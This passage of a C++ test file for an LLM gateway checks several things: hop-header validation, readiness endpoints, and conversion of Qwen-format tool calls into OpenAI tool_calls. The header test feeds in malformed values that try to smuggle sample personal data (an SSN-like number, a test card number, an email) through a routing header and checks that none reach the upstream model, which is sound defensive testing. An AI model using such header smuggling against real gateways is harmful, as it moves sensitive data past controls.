      "'\n[server]\nkeys_db='" + (dir.path() / "k.db").string() + "'\n";
  auto policy = airlock::policy::ParsePolicy(toml);
  ASSERT_TRUE(policy.ok()) << policy.error().message();
  airlock::server::GatewayOptions options;
  options.port = 0;
  options.policy = *policy;
  auto gw = airlock::server::Gateway::Create(options);
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  ASSERT_TRUE((*gw)->Start().ok());
  httplib::Client c("127.0.0.1", (*gw)->port());
  c.set_read_timeout(20, 0);
  json body = {{"model", "m"}, {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
  auto post = [&](const httplib::Headers& headers) {
    auto r = c.Post("/v1/chat/completions", headers, body.dump(), "application/json");
    return r ? r->status : -1;
  };
  const std::string data = "123-45-6789, 4111 1111 1111 1111, alice@example.com";
  for (const std::string& value :
       {data, "0123456789abcdef," + data, std::string("0123456789abcdef;x"),
        std::string("0123456789ABCDEF"), std::string("0123456789abcdef,,"), std::string(""),
        std::string(60000, 'a'), "0123456789abcdef\t" + data})
    EXPECT_EQ(post({{"X-Airlock-Hops", value}}), 400) << value.substr(0, 80);
  EXPECT_EQ(post({{"X-Airlock-Hops", "0123456789abcdef"}, {"X-Airlock-Hops", data}}), 400);
  {
    std::lock_guard<std::mutex> lock(mu);
    EXPECT_TRUE(seen_hops.empty()) << seen_hops.size() << " requests reached the upstream";
  }
  // Well-formed ids (blanks around them allowed) travel on, normalized, with this gateway's id.
  EXPECT_EQ(post({{"X-Airlock-Hops", " 0123456789abcdef , 00ff "}}), 200);
  EXPECT_EQ(post({}), 200);
  upstream.stop();
  serving.join();
  ASSERT_EQ(seen_hops.size(), 2u);
  EXPECT_EQ(seen_hops[0].rfind("0123456789abcdef,00ff,", 0), 0u) << seen_hops[0];
  EXPECT_EQ(seen_hops[0].size(), std::string("0123456789abcdef,00ff,").size() + 16) << seen_hops[0];
  EXPECT_EQ(seen_hops[1].size(), 16u) << seen_hops[1];
}

// /health says the process answers; /ready also needs every configured local model loaded.
TEST(LocalBackend, ReadyOnlyWhenEveryLocalModelIsLoaded) {
  TempDir dir("gateway-ready");
  std::string toml = "[[local_models]]\nname='tiny'\npath='tiny.gguf'\n[audit]\npath='" +
                     (dir.path() / "a.db").string() + "'\n[server]\nkeys_db='" +
                     (dir.path() / "k.db").string() + "'\n";
  auto policy = airlock::policy::ParsePolicy(toml);
  ASSERT_TRUE(policy.ok()) << policy.error().message();
  for (bool loaded : {false, true}) {
    airlock::server::GatewayOptions options;
    options.port = 0;
    options.policy = *policy;
    if (loaded) options.local_backends["tiny"] = std::make_shared<EchoBackend>();
    auto gw = airlock::server::Gateway::Create(options);
    ASSERT_TRUE(gw.ok()) << gw.error().message();
    ASSERT_TRUE((*gw)->Start().ok());
    httplib::Client c("127.0.0.1", (*gw)->port());
    EXPECT_EQ(c.Get("/health")->status, 200);
    auto r = c.Get("/ready");
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, loaded ? 200 : 503) << r->body;
    EXPECT_EQ(json::parse(r->body)["status"], loaded ? "ready" : "not_ready");
  }
}

// Test double for a model whose chat template has Qwen's tool-call format: answers with a sentence
// and one call block, and records what it was asked.
class ToolBackend : public airlock::server::ModelBackend {
 public:
  std::string Name() const override { return "tool-model"; }
  std::int64_t CountTokens(std::string_view text) const override {
    return static_cast<std::int64_t>(text.size() / 4 + 1);
  }
  airlock::engine::ToolCallSyntax ToolSyntax() const override {
    return airlock::engine::ToolCallSyntax::kQwen;
  }
  airlock::Result<airlock::server::GenerateResult> Generate(
      const airlock::server::GenerateRequest& request,
      const std::function<bool(std::string_view)>& on_text, const std::atomic<bool>&) override {
    std::lock_guard<std::mutex> lock(mu);
    last = request;
    airlock::server::GenerateResult r;
    for (const char* piece : {"Let me check.", "\n<tool_", "call>\n{\"name\": \"get_weather\", ",
                              "\"arguments\": {\"city\": \"Paris\"}}\n</tool_call>"}) {
      if (!on_text(piece)) break;
      r.completion_tokens++;
    }
    r.prompt_tokens = 5;
    return r;
  }
  std::mutex mu;
  airlock::server::GenerateRequest last;
};

// Issue #19: `tools` reached a local model as nothing, and its call came back as plain text. The
// tools now go to the backend (for its chat template), the reply's call blocks become OpenAI
// tool_calls with finish_reason "tool_calls", streamed and not; tool_choice "none" keeps them away;
// earlier turns' tool_calls and tool_call_id reach the template.
TEST(LocalBackend, ToolCallsInTheTemplateFormatBecomeOpenAIToolCalls) {
  TempDir dir("gateway-tools");
  std::string toml = "[[local_models]]\nname='tool-model'\npath='tool.gguf'\n[audit]\npath='" +
                     (dir.path() / "a.db").string() + "'\n[server]\nkeys_db='" +
                     (dir.path() / "k.db").string() + "'\n";
  auto backend = std::make_shared<ToolBackend>();
  auto gw = StartLocalGateway(toml, "tool-model", backend);
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  httplib::Client c("127.0.0.1", (*gw)->port());
  c.set_read_timeout(20, 0);
  json tools =
      json::array({{{"type", "function"},
                    {"function",
                     {{"name", "get_weather"},
                      {"parameters",
                       {{"type", "object"}, {"properties", {{"city", {{"type", "string"}}}}}}}}}}});
  json body = {
      {"model", "tool-model"},
      {"messages",
       json::array({{{"role", "user"}, {"content", "Weather in Paris?"}},
                    {{"role", "assistant"},
                     {"content", nullptr},
                     {"tool_calls", json::array({{{"id", "call_1"},
                                                  {"type", "function"},
                                                  {"function",
                                                   {{"name", "get_weather"},
                                                    {"arguments", "{\"city\":\"Rome\"}"}}}}})}},
                    {{"role", "tool"}, {"tool_call_id", "call_1"}, {"content", "sunny"}}})},
      {"tools", tools}};
  auto r = c.Post("/v1/chat/completions", body.dump(), "application/json");
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  json j = json::parse(r->body);
  const json& choice = j["choices"][0];
  EXPECT_EQ(choice["finish_reason"], "tool_calls") << r->body;
  EXPECT_EQ(choice["message"]["content"], "Let me check.") << r->body;
  ASSERT_EQ(choice["message"]["tool_calls"].size(), 1u) << r->body;
  const json& call = choice["message"]["tool_calls"][0];
  EXPECT_EQ(call["type"], "function");
  EXPECT_EQ(call["id"].get<std::string>().rfind("call_", 0), 0u);
  EXPECT_EQ(call["function"]["name"], "get_weather");
  EXPECT_EQ(json::parse(call["function"]["arguments"].get<std::string>()),
            (json{{"city", "Paris"}}));
  {
    std::lock_guard<std::mutex> lock(backend->mu);
    EXPECT_EQ(json::parse(backend->last.tools_json), tools);
    ASSERT_EQ(backend->last.messages.size(), 3u);
    EXPECT_NE(backend->last.messages[1].tool_calls_json.find("Rome"), std::string::npos);
    EXPECT_EQ(backend->last.messages[2].tool_call_id, "call_1");
  }

  // Streamed: the call arrives as a tool_calls delta, never as text.
  body["stream"] = true;
  r = c.Post("/v1/chat/completions", body.dump(), "application/json");
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  EXPECT_EQ(r->body.find("<tool_call>"), std::string::npos) << r->body;
  std::string content, name, arguments, finish;
  std::size_t pos = 0;
  while ((pos = r->body.find("data: ", pos)) != std::string::npos) {
    std::size_t end = r->body.find("\n\n", pos);
    std::string payload = r->body.substr(pos + 6, end - pos - 6);
    pos = end;
    if (payload == "[DONE]") continue;
    json chunk = json::parse(payload);
    for (const auto& ch : chunk["choices"]) {
      if (ch["delta"].contains("content") && ch["delta"]["content"].is_string())
        content += ch["delta"]["content"].get<std::string>();
      if (ch["delta"].contains("tool_calls"))
        for (const auto& tc : ch["delta"]["tool_calls"]) {
          // Pieces of one call (the arguments may come later, after the response hold-back).
          EXPECT_EQ(tc["index"], 0);
          const json& fn = tc["function"];
          if (fn.contains("name") && fn["name"].is_string()) name += fn["name"].get<std::string>();
          if (fn.contains("arguments") && fn["arguments"].is_string())
            arguments += fn["arguments"].get<std::string>();
        }
      if (!ch["finish_reason"].is_null()) finish = ch["finish_reason"];
    }
  }
  EXPECT_EQ(content, "Let me check.");
  EXPECT_EQ(name, "get_weather");
  EXPECT_EQ(json::parse(arguments, nullptr, false), (json{{"city", "Paris"}})) << r->body;
  EXPECT_EQ(finish, "tool_calls");

  // tool_choice "none": the model sees no tools and its text stays text.
  body.erase("stream");
  body["tool_choice"] = "none";
  r = c.Post("/v1/chat/completions", body.dump(), "application/json");
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  j = json::parse(r->body);
  EXPECT_FALSE(j["choices"][0]["message"].contains("tool_calls")) << r->body;
  EXPECT_EQ(j["choices"][0]["finish_reason"], "stop");
  {
    std::lock_guard<std::mutex> lock(backend->mu);
    EXPECT_TRUE(backend->last.tools_json.empty());
  }
  (*gw)->Stop();
}

}  // namespace local_backend
